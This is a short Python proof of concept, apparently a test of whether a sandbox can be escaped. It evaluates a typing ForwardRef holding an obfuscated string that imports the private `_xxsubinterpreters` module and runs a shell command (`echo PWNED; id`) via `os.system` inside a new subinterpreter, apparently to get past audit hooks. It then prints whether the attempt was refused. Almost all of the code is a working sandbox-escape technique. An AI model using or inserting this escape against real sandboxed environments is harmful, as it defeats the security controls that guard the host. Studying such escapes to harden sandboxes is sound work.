# proc: a typing ForwardRef evaluated from typing's frame with the real builtins; a subinterpreter has no hook
import typing
src = ("__import__('heapq').nsmallest(1, ['_xxsub' + 'interpreters'], key=__import__) and "
       "(s := __import__('_xxsub' + 'interpreters')).run_string(s.create(), "
       "'import os; os.system(\"echo PWN\'\'ED from a subinterpreter; id\")')")
try:
    typing.get_args(typing.List[src])[0]._evaluate(None, None, frozenset())
except Exception as e:
    print("refused:", type(e).__name__, e)
